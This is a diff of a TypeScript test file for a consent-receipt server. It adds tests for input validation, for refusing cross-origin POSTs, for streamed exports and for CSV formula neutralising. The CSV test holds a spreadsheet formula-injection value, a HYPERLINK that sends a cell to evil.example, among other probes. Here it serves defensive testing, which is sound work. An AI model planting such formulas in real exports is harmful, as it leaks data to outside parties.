@@ -5,7 +5,7 @@ import { dirname, join, resolve } from 'node:path';
 import Database from 'better-sqlite3';
 import pg from 'pg';
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
-import { createServer } from 'node:http';
+import { createServer, request as httpRequest } from 'node:http';
 import { createReceiptHandler, openReceiptStore, serve, toNodeHandler, type ReceiptStore } from '../../src/server';
 import { driver } from '../../src/server/store';
 import { startPostgres } from '../support/postgres';
@@ -140,7 +140,7 @@ describe.each(kinds)('receipts server on $name', (kind) => {
       await a.close();
       await b.close();
     }
-    expect(await kind.sql(location, 'SELECT version FROM consent_gate_migrations')).toEqual([{ version: 1 }]);
+    expect(await kind.sql(location, 'SELECT version FROM consent_gate_migrations ORDER BY version')).toEqual([{ version: 1 }, { version: 2 }, { version: 3 }, { version: 4 }]);
   });
 
   const bad: [string, unknown, RegExp][] = [
@@ -158,7 +158,6 @@ describe.each(kinds)('receipts server on $name', (kind) => {
     ['a decidedAt without time', receipt({ decidedAt: '2026-11-27' }), /decidedAt/],
     ['a decidedAt with an offset', receipt({ decidedAt: '2026-11-27T10:00:00.000+02:00' }), /decidedAt/],
     ['a decidedAt on 30 February', receipt({ decidedAt: '2026-02-30T10:00:00.000Z' }), /decidedAt/],
-    ['a decidedAt two days ahead', receipt({ decidedAt: new Date(Date.now() + 2 * 864e5).toISOString() }), /decidedAt/],
     ['a decidedAt as a number', receipt({ decidedAt: Date.now() }), /decidedAt/],
     ['an unknown source', receipt({ source: 'cookie-wall' }), /source: expected one of/],
     ['policies as an array', receipt({ policies: ['privacy'] }), /policies: expected an object/],
@@ -166,8 +165,7 @@ describe.each(kinds)('receipts server on $name', (kind) => {
     ['a policy version with a space', receipt({ policies: { privacy: 'v 1' } }), /policies\.privacy/],
     ['a policy id starting with a digit', receipt({ policies: { '1st': 'x' } }), /policies\.1st: expected an id/],
     ['a __proto__ category', JSON.stringify(receipt()).replace(/"categories":\{[^}]*\}/, '"categories":{"__proto__":true}'), /categories\.__proto__/],
-    ['no categories', receipt({ categories: {} }), /categories: expected 1 to 64 entries/],
-    ['65 categories', receipt({ categories: Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`c${i}`, true])) }), /categories: expected 1 to 64/],
+    ['no categories', receipt({ categories: {} }), /categories: expected at least 1 entry/],
     ['a category given as "yes"', receipt({ categories: { analytics: 'yes' } }), /categories\.analytics: expected true or false/],
     ['a category given as 1', receipt({ categories: { analytics: 1 } }), /categories\.analytics/],
     ['a language that is not a code', receipt({ language: 'english!!' }), /language/],
@@ -240,9 +238,9 @@ describe.each(kinds)('receipts server on $name', (kind) => {
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
     const lines = (await res.text()).trimEnd().split('\r\n');
-    expect(lines[0]).toBe('receivedAt,receiptId,consentId,decidedAt,source,language,configHash,page,policies,categories');
+    expect(lines[0]).toBe('receivedAt,receiptId,consentId,decidedAt,source,language,configHash,page,policies,categories,required,variant,region,mode');
     const line = lines.find((l) => l.includes(r.receiptId));
-    expect(line).toBe(`${receivedAt},${r.receiptId},${r.consentId},${r.decidedAt},banner,en,a1b2c3d4e5f60718,"/a,""quoted""","{""privacy"":""2024-05-01"",""terms"":""3""}","{""necessary"":true,""analytics"":true,""marketing"":false}"`);
+    expect(line).toBe(`${receivedAt},${r.receiptId},${r.consentId},${r.decidedAt},banner,en,a1b2c3d4e5f60718,"/a,""quoted""","{""privacy"":""2024-05-01"",""terms"":""3""}","{""necessary"":true,""analytics"":true,""marketing"":false}",,,,`);
     const empty = await (await get(`/consent/receipts.csv?from=${after}&to=${after}`)).text();
     expect(empty.trimEnd().split('\r\n')).toHaveLength(1);
     const byDate = await (await get(`/consent/receipts.csv?from=${receivedAt.slice(0, 10)}`)).text();
@@ -263,7 +261,6 @@ describe.each(kinds)('receipts server on $name', (kind) => {
     expect(denied.status).toBe(403);
     expect(denied.headers.get('access-control-allow-origin')).toBeNull();
     expect((await post(receipt(), 'text/plain', { origin: SITE })).headers.get('access-control-allow-origin')).toBe(SITE);
-    expect((await post(receipt(), 'text/plain', { origin: 'https://evil.example' })).headers.get('access-control-allow-origin')).toBeNull();
   });
 
   test('answers 405 to other methods and 404 to other paths', async () => {
@@ -271,6 +268,103 @@ describe.each(kinds)('receipts server on $name', (kind) => {
     expect((await handle(new Request('http://site.test/consent/receipts', { method: 'DELETE' }))).status).toBe(405);
     expect((await handle(new Request('http://site.test/consent/other'))).status).toBe(404);
   });
+
+  // Issue 10, item 5: each of these was refused with 400 by the old server, and the client dropped it.
+  const clientMade: [string, Record<string, unknown>][] = [
+    ['a language tag of four subtags', { language: 'de-de-u-co-phonebk' }],
+    ['a language tag with a private use part', { language: 'en-us-x-twain' }],
+    ['a visitor clock a day fast', { decidedAt: new Date(Date.now() + 864e5 + 60e3).toISOString() }],
+    ['a visitor clock a year fast', { decidedAt: new Date(Date.now() + 365 * 864e5).toISOString() }],
+    ['a visitor clock reset to 1970', { decidedAt: '1970-01-01T00:00:05.000Z' }],
+    ['300 categories with 32-character ids', { categories: Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`c${String(i).padStart(31, '0')}`, i % 2 === 0])) }],
+    ['region, mode, variant and required', { region: 'US-CA', mode: 'opt-out', variant: 'Short wording (B)', required: ['necessary'] }],
+  ];
+  test.each(clientMade)('stores a receipt with %s, and reads it back as sent', async (_, over) => {
+    const r = receipt(over);
+    const res = await post(r);
+    expect(res.status).toBe(201);
+    const { receivedAt } = await res.json();
+    expect(await store.byConsentId(r.consentId)).toEqual([{ ...r, receivedAt }]);
+  });
+
+  test('refuses optional fields that are malformed', async () => {
+    for (const [over, reason] of [
+      [{ region: 'Germany' }, /^region/], [{ mode: 'opt-maybe' }, /^mode/], [{ variant: '' }, /^variant/], [{ variant: 'a\u0000b' }, /^variant/],
+      [{ required: 'necessary' }, /^required/], [{ required: ['marketing', 'marketing'] }, /^required\[1\]/], [{ required: ['ads'] }, /^required\[0\]/],
+      [{ required: ['constructor'] }, /^required\[0\]/],
+    ] as const) {
+      const res = await post(receipt(over));
+      expect(res.status).toBe(400);
+      expect((await res.json()).error).toMatch(reason);
+    }
+  });
+
+  test('refuses policy versions with control characters or lone surrogates, which would not read back as sent', async () => {
+    for (const version of ['a\u0000b', 'v\u0007', '\ud800x']) {
+      const res = await post(receipt({ policies: { privacy: version } }));
+      expect(res.status).toBe(400);
+    }
+  });
+
+  // Issue 10, item 10: the old export wrote these cells as they were; a spreadsheet runs them as formulas.
+  test('the CSV export neutralises cells a spreadsheet would run as formulas', async () => {
+    const r = receipt({ configHash: '-2-3', variant: '=HYPERLINK("https://evil.example/?"&A1)', policies: { privacy: '@SUM(1)' } });
+    const { receivedAt } = await (await post(r)).json();
+    const csv = await (await get(`/consent/receipts.csv?from=${receivedAt}&to=${new Date(Date.parse(receivedAt) + 1).toISOString()}`)).text();
+    const line = csv.split('\r\n').find((l) => l.includes(r.receiptId))!;
+    expect(line).toContain(`,"'-2-3",`);
+    expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1)",`);
+    // No cell of the line starts with a formula character once the quotes are read.
+    const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+  });
+
+  // Issue 10, item 11: the old server hid its answer from other origins but stored their POSTs.
+  test('refuses POSTs from origins not allowed, storing nothing; its own origin and requests without Origin are taken', async () => {
+    const n = await all();
+    for (const origin of ['https://evil.example', 'null', 'https://shop.example.evil.example', 'http://shop.example']) {
+      const res = await post(receipt(), 'text/plain', { origin });
+      expect(res.status).toBe(403);
+      expect((await res.json()).error).toMatch(/^origin/);
+    }
+    expect(await all()).toBe(n);
+    expect((await post(receipt(), 'text/plain', { origin: SITE })).status).toBe(201);
+    expect((await post(receipt(), 'text/plain', { origin: 'http://site.test' })).status).toBe(201);
+    expect((await post(receipt(), 'text/plain', { origin: 'https://consent.example', host: 'consent.example' })).status).toBe(201);
+    expect((await post(receipt())).status).toBe(201);
+    // Without allowOrigins, only the endpoint's own origin.
+    const own = createReceiptHandler({ store });
+    const from = (origin: string) => own(new Request('http://site.test/consent/receipts', { method: 'POST', headers: { 'content-type': 'text/plain', origin }, body: JSON.stringify(receipt()) }));
+    expect((await from(SITE)).status).toBe(403);
+    expect((await from('http://site.test')).status).toBe(201);
+  });
+
+  // Issue 10, item 15: the old server loaded every row before answering, so a row stored while the answer
+  // was being read could never be in it. Here it is: rows are fetched batch by batch as the reader takes them.
+  test('streams a look-up and an export in batches: a row stored while the answer is read is in it', async () => {
+    const consentId = randomUUID();
+    const at = new Date().toISOString();
+    await Promise.all(Array.from({ length: 1100 }, () => store.add({ ...receipt({ consentId }) } as never, at)));
+    const read = async (path: string) => {
+      const res = await get(path);
+      expect(res.status).toBe(200);
+      const reader = res.body!.getReader();
+      const chunks: Uint8Array[] = [(await reader.read()).value!];
+      const late = receipt({ consentId });
+      await store.add(late as never, new Date(Date.parse(at) + 1).toISOString());
+      for (let c = await reader.read(); !c.done; c = await reader.read()) chunks.push(c.value);
+      return { late, text: Buffer.concat(chunks).toString('utf8'), chunks: chunks.length };
+    };
+    const json = await read(`/consent/receipts?consentId=${consentId}`);
+    const rows = JSON.parse(json.text);
+    expect(rows).toHaveLength(1101);
+    expect(rows[1100].receiptId).toBe(json.late.receiptId);
+    expect(json.chunks).toBeGreaterThan(10);
+    const csv = await read(`/consent/receipts.csv?from=${at}`);
+    const lines = csv.text.trimEnd().split('\r\n').filter((l) => l.includes(consentId));
+    expect(lines).toHaveLength(1102);
+    expect(lines.at(-1)).toContain(csv.late.receiptId);
+  }, 60_000);
 });
 
 describe('the SQLite file', () => {
@@ -294,6 +388,27 @@ describe('the SQLite file', () => {
 });
 
 describe('the Node adapter', () => {
+  // Issue 10, item 15: the old adapter built a Request for TRACE, which the Fetch API refuses, and answered 500.
+  test('answers 405 to TRACE and other methods, never 500', async () => {
+    const server = await serve({ db: ':memory:', port: 0 });
+    const { port } = server.server.address() as { port: number };
+    const send = (method: string, path = '/consent/receipts') => new Promise<number>((resolve, reject) => {
+      const req = httpRequest({ host: '127.0.0.1', port, method, path }, (res) => { res.resume(); resolve(res.statusCode!); });
+      req.on('error', reject);
+      req.end();
+    });
+    try {
+      for (const method of ['TRACE', 'PROPFIND', 'PURGE', 'PATCH', 'DELETE', 'PUT']) expect([method, await send(method)]).toEqual([method, 405]);
+      // A method Node's parser does not know (TRACK) is answered 400 by Node itself.
+      expect(await send('TRACK')).toBe(400);
+      // Found by the fuzzer: a request target of '//' was a 500 (the adapter read it as a URL without a host).
+      expect(await send('POST', '//')).toBe(404);
+      expect(await send('GET', '//evil.example/consent/receipts')).toBe(404);
+    } finally {
+      await server.close();
+    }
+  });
+
   test('answers 413 to a 1 MB body without reading it all', async () => {
     const server = await serve({ db: ':memory:', port: 0 });
     try {
